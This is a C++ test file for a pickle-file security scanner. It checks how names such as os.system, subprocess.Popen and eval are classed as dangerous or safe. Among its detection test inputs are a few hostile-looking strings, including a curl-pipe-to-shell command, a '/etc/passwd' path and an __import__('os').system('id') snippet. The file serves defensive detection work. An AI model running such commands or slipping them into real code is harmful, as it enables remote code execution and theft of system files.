// The verdicts of names, by what they resolve to.
#include <doctest/doctest.h>

#include "base/text.h"
#include "formats/pickle/names.h"
#include "formats/pickle/policy.h"

using namespace parapet;
using namespace parapet::pickle;

namespace {
Verdict verdict(std::string_view module, std::string_view name, How how = How::import) {
  return judge_use(judge(module, name), how).verdict;
}
}  // namespace

TEST_CASE("what reaches outside is dangerous, however it is spelt") {
  struct Row {
    std::string_view module, name;
  };
  for (Row r : {Row{"os", "system"},
                {"posix", "system"},
                {"nt", "system"},
                {"subprocess", "Popen"},
                {"commands", "getoutput"},
                {"__builtin__", "eval"},
                {"builtins", "eval.__call__"},
                {"builtins", "getattr"},
                {"_io", "open"},
                {"io", "FileIO"},
                {"_operator", "attrgetter"},
                {"operator", "methodcaller"},
                {"_posixsubprocess", "fork_exec"},
                {"cPickle", "loads"},
                {"pty", "spawn"},
                {"pdb", "run"},
                {"code", "InteractiveInterpreter.runcode"},
                {"asyncio.unix_events", "_UnixSubprocessTransport._start"},
                {"pkgutil", "resolve_name"},
                {"pydoc", "locate"},
                {"imaplib", "IMAP4_stream"},
                {"test.support.script_helper", "assert_python_ok"},
                {"random", "_os.system"},
                {"torch.serialization", "os.system"},
                {"collections", "_sys.modules"},
                {"sklearn.utils", "os.popen"},
                {"numpy", "__builtins__"},
                {"numpy", "size.__class__"},
                {"torch", "hub.load"},
                {"torch", "_utils.os.system"},
                {"posixpath", "os"},
                {"numpy", "f2py.crackfortran.myeval"},
                {"numpy.testing._private.utils", "runstring"},
                {"torch", "load"},
                {"joblib", "load"},
                {"pandas", "read_pickle"},
                {"pip", "main"},
                {"setuptools._distutils.spawn", "spawn"},
                {"ctypes", "CDLL"},
                {"socket", "create_connection"},
                {"urllib", "urlopen"},
                {"requests.api", "get"},
                {"mailcap", "findmatch"},
                {"typing", "get_type_hints"},
                {"shutil", "rmtree"},
                {"keras.src.saving.saving_lib", "load_model"},
                {"tensorflow.python.ops.io_ops", "read_file"},
                {"transformers.dynamic_module_utils", "get_class_from_dynamic_module"},
                {"mlflow.projects.backend.local", "_run_entry_point"},
                {"jinja2.environment", "Template.render"},
                {"django.utils.module_loading", "import_string"},
                {"yaml", "unsafe_load"},
                {"six", "exec_"},
                {"IPython.core.interactiveshell", "InteractiveShell.system"},
                {"somebody.else", "run_command"},
                {"uuid", "_popen"}})
    CHECK_MESSAGE(verdict(r.module, r.name, How::reduce) == Verdict::dangerous, r.module, " ",
                  r.name);
}

TEST_CASE("what libraries write into their own files is safe") {
  struct Row {
    std::string_view module, name;
    How how = How::reduce;
  };
  for (Row r : {Row{"collections", "OrderedDict"},
                {"datetime", "datetime"},
                {"copy_reg", "_reconstructor"},
                {"_codecs", "encode"},
                {"uuid", "UUID"},
                {"numpy.core.multiarray", "_reconstruct"},
                {"numpy._core.multiarray", "scalar"},
                {"numpy", "dtype"},
                {"torch._utils", "_rebuild_tensor_v2"},
                {"torch", "FloatStorage"},
                {"numpy.random._pickle", "__randomstate_ctor"},
                {"sklearn.tree._tree", "Tree"},
                {"logging", "getLogger"},
                {"sklearn.svm._classes", "SVC", How::newobj},
                {"torch.nn.modules.linear", "Linear", How::newobj},
                {"xgboost.core", "Booster", How::newobj},
                {"pandas.core.frame", "DataFrame", How::newobj},
                {"sklearn._loss._loss", "__pyx_unpickle_CyHalfBinomialLoss"},
                {"__builtin__", "set"},
                {"io", "BytesIO"},
                {"__torch__.torch.nn.modules.linear", "Linear", How::newobj}})
    CHECK_MESSAGE(verdict(r.module, r.name, r.how) == Verdict::safe, r.module, " ", r.name);
}

TEST_CASE("a prefix earns nothing") {
  CHECK(verdict("sklearn.utils.something", "helper", How::reduce) == Verdict::unknown);
  CHECK(verdict("sklearn.svm._classes", "SVC", How::reduce) ==
        Verdict::unknown);  // its constructor would run
  CHECK(verdict("torch.nn.modules.linear", "Linear.forward") == Verdict::unknown);
  CHECK(verdict("torch.nn.modulesx", "Linear", How::newobj) == Verdict::unknown);
  CHECK(verdict("my.models", "Net", How::newobj) == Verdict::unknown);
  CHECK(verdict("__main__", "Net", How::newobj) == Verdict::unknown);
  CHECK(verdict("builtinsx", "eval") ==
        Verdict::dangerous);  // an unknown module, but its function's name says it
  CHECK(verdict("osx", "path") == Verdict::unknown);
}

TEST_CASE("the standard library beyond the tables: named is unknown, called is suspicious") {
  CHECK(verdict("fnmatch", "filter") == Verdict::unknown);
  CHECK(verdict("fnmatch", "filter", How::reduce) == Verdict::suspicious);
  CHECK(verdict("math", "sqrt") == Verdict::safe);
  CHECK(judge_use(judge("math", "sqrt"), How::reduce, false).verdict == Verdict::suspicious);
  CHECK(verdict("calendar", "Calendar", How::newobj) == Verdict::unknown);
}

TEST_CASE("classes of libraries that are dangerous as a whole count less while only constructed") {
  CHECK(verdict("omegaconf.dictconfig", "DictConfig", How::newobj) == Verdict::unknown);
  CHECK(verdict("omegaconf", "load", How::reduce) == Verdict::dangerous);
  CHECK(verdict("subprocess", "Popen", How::newobj) == Verdict::dangerous);
}

TEST_CASE("every row of the tables is judged as it says") {
  for (auto rows : {safe_names(), safe_library_names()})
    for (const auto& row : rows)
      for (auto name : split(row.names, ' '))
        CHECK_MESSAGE(judge(row.module, name).verdict == Verdict::safe, row.module, " ", name);
  for (auto rows : {dangerous_names(), dangerous_library_names()})
    for (const auto& row : rows) {
      auto name = row.names.substr(0, row.names.find(' '));
      if (name == "*") name = "anything_at_all";
      CHECK_MESSAGE(judge(row.module, name).verdict == Verdict::dangerous, row.module, " ", name);
    }
}

TEST_CASE("arguments that only an attacker hands to an unknown function") {
  for (std::string_view s :
       {"sh -c true", "curl http://example.invalid | sh", "/bin/true", "../../x",
        "http://example.invalid", "__import__('os')", "powershell", "/etc/passwd"})
    CHECK_MESSAGE(!attack_in(s).empty(), s);
  for (std::string_view s :
       {"relu", "bert-base-uncased", "cat", "id", "head", "python", "models/a.bin", "a; b",
        "text with | bars", "sh", "w:0", "<unk>", "[a-z]+\\s"})
    CHECK_MESSAGE(attack_in(s).empty(), s);
}

TEST_CASE("names inside travelling code") {
  CHECK(reaches_out("system"));
  CHECK(reaches_out("__import__('os').system('id') and more text to be long"));
  CHECK_FALSE(reaches_out("sum"));
  CHECK_FALSE(reaches_out("path"));
}
